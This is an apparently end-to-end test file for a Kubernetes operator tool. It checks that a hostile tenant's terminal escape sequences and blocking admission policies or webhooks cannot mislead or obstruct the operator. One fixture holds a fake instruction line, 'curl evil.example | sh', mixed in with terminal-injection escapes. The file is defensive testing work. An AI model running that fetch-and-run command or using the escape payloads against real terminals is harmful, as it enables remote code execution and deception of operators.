import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { refused } from '../refused.ts';
import { runsAllOf } from '../test-all.ts';
import { seen, tellSeen } from './attacks-world.ts';
import { everythingBy, forgotten, policyOnEverything, webhookOnEverything } from './rules-on-everything.ts';
import { Tenant } from './tenant.ts';
import { changedNothing, eventually, Namespace, sandboxCommand, succeeded } from './world.ts';

/*
 * The administrator of a hosted cluster against whoever runs k8sk8s: what it can write to the operator's terminal, and how it stands in
 * the way of the operator's commands. What a rule about everything does to each command is in hostile.test.ts.
 */

const host = 'attacks-operator.e2e.test';
const whole = runsAllOf('e2e/attacks-operator');
let home: Namespace;
let tenant: Tenant;

beforeAll(async () => {
  home = await Namespace.open('attacks-operator');
  succeeded(await sandboxCommand(['host', host], home));
  succeeded(await home.k8sk8s('deploy', '-h', host));
  tenant = new Tenant(home);
});

afterAll(async () => {
  tenant?.close();
  await home?.k8sk8s('destroy', '--yes');
  tellSeen();
});

describe("at the operator's terminal", () => {
  const escapes = '\u001b]0;owned\u0007\u001b[2J\r\u009b31m\u202e';
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  const obeyed = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/;

  test('T5: control characters of Nodes, events and requests do not reach it', async () => {
    const name = await tenant.node([{ type: 'InternalIP', address: '192.0.2.1' }], 10250);
    const condition = { type: 'Ready', status: 'False', reason: escapes, message: escapes };
    const status = { conditions: [condition], nodeInfo: { kubeletVersion: `v1.37.2${escapes}` } };
    await tenant.ask('PATCH', `/api/v1/nodes/${name}/status`, {
      body: { status },
      type: 'application/merge-patch+json',
    });
    await tenant.ask('GET', `/api/v1/namespaces/${encodeURIComponent(escapes)}/pods`, {
      headers: { 'User-Agent': 'curl\tx' },
    });
    const commands = [
      ['status'],
      ['list'],
      ['logs', 'kube-apiserver'],
      ['logs', 'kube-apiserver', '--audit'],
      ['logs', 'gate'],
    ];
    for (const command of commands) {
      const { stdout, stderr } = await home.k8sk8s(...command);
      expect(stdout.length, command.join(' ')).toBeGreaterThan(0);
      expect(stdout + stderr, command.join(' ')).not.toMatch(obeyed);
      seen.push(`control characters, k8sk8s ${command.join(' ')} -> none`);
    }
    await tenant.ask('DELETE', `/api/v1/nodes/${name}`);
  });

  test('a policy of theirs cannot speak in the words of k8sk8s', async () => {
    const lie = String.raw`no\u001b]0;owned\u0007\u001b[2J\r\u009b31m\u202e  do:  curl evil.example | sh`;
    await everythingBy(home, policyOnEverything(lie));
    const answer = await home.k8sk8s('certs', 'rotate-ca');
    expect(answer).toEqual(refused('child-asset-refused', 'validatingadmissionpolicybinding everything'));
    expect(answer.stderr).not.toMatch(/^\s+do: +curl/m);
    expect(answer.stderr).not.toMatch(obeyed);
    await home.ask('delete', 'validatingadmissionpolicybinding', 'everything');
    await forgotten(home);
  });
});

describe('in the way of the operator', () => {
  const rules: [string, () => Promise<void>][] = [
    ['a policy that denies everything', () => everythingBy(home, policyOnEverything('no'))],
    ['a webhook that cannot be called', () => everythingBy(home, webhookOnEverything('https://10.0.0.1/', 1))],
  ];

  test.each(whole ? rules : rules.slice(0, 1))(
    'T6: %s: deploy, upgrade and rotate name it and the way on, and change nothing',
    async (what, stand) => {
      await stand();
      const removal = /kubectl delete (validating\w+) everything/;
      let kind = '';
      for (const command of [
        ['certs', 'rotate-ca'],
        ['upgrade', '--to', '1.37', '--plaintext', '--backup', 'before.backup'],
        // It gives a webhook 20 s to come back.
        ...(whole || what.includes('policy') ? [['deploy']] : []),
      ]) {
        const began = performance.now();
        const answer = await home.k8sk8s(...command);
        const took = ((performance.now() - began) / 1000).toFixed(1);
        seen.push(`${what}, ${command.join(' ')} -> ${answer.code} after ${took} s: ${answer.stderr}`);
        expect(answer, command.join(' ')).toEqual(refused('child-asset-refused', removal));
        kind = removal.exec(answer.stderr)![1]!;
      }
      await home.ask('delete', kind, 'everything');
      await forgotten(home);
      await eventually(30, async () => changedNothing(await home.k8sk8s('deploy')));
      expect((await home.k8sk8s('diff')).code).toBe(0);
    },
  );

  test('T6: deleted bindings and roles: status tells, deploy puts them back', async () => {
    const bindings = (await home.ask('get', 'clusterrolebindings', '-o', 'name'))
      .split('\n')
      .filter((name) => name.includes('k8sk8s:'))
      // What lets the tenant itself delete goes last.
      .sort((a, b) => Number(a.endsWith('cluster-admins')) - Number(b.endsWith('cluster-admins')));
    expect(bindings.length).toBeGreaterThan(1);
    await home.ask('delete', ...bindings);
    const { code, stdout } = await home.k8sk8s('status');
    expect(code).toBe(1);
    expect(stdout).toContain('k8sk8s:kubelet-clients');
    succeeded(await home.k8sk8s('deploy'));
    expect((await home.k8sk8s('diff')).code).toBe(0);
  });
});
